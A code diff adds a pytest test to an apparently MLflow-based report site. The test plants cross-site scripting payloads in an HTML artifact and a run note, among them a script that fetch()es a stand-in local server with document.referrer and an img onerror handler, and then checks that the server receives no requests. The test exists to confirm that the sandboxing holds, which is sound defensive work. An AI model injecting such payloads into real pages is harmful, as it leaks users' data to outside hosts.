@@ -4,10 +4,12 @@ from __future__ import annotations
 
 import json
 import subprocess
+import threading
 import urllib.parse
 from collections.abc import Iterator
-from contextlib import suppress
+from contextlib import contextmanager, suppress
 from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -262,3 +264,45 @@ def test_the_report_fits_on_a_phone_and_on_paper(site: Site, page: Page, width: 
           const shown = [...document.querySelectorAll('#curves svg')].filter(svg => svg.getBoundingClientRect().width);
           return Math.min(...shown.map(svg => svg.getBoundingClientRect().width / svg.viewBox.baseVal.width)) * 7.5""")
         assert float(str(least)) >= 7.5
+
+
+@contextmanager
+def stranger() -> Iterator[tuple[str, list[str]]]:
+    """Yield the address of somebody else's server, and the paths that it was asked for."""
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}", asked
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.parametrize("place", ["file", "note"])
+def test_text_of_a_record_sends_nothing_away(site: Site, page: Page, place: str) -> None:
+    """MLflow shows HTML files and notes, which somebody else may have written, between its own pages."""
+    client = MlflowClient(f"sqlite:///{site.home / 'mlflow.db'}")
+    with stranger() as (address, asked):
+        script = f"<script>fetch('{address}/script?' + document.referrer)</script>"
+        text = f"<h1>by a stranger</h1><img src='{address}/image' onerror='fetch(\"{address}/error\")'>{script}"
+        if place == "file":
+            folder = Path(urllib.parse.urlsplit(site.sweep.info.artifact_uri).path)
+            (folder / "strange.html").write_text(text)
+            page.open(site.of(site.sweep, "/artifacts/strange.html"))
+            page.wait_for("document.querySelector('iframe#html')")
+            page.wait("strange.html")
+        else:
+            client.set_tag(site.sweep.info.run_id, "mlflow.note.content", f"{text} ![]({address}/picture)")
+            page.open(site.of(site.sweep))
+            page.wait("by a stranger")
+        page.run("return new Promise(done => setTimeout(done, 3000))")
+        assert asked == []
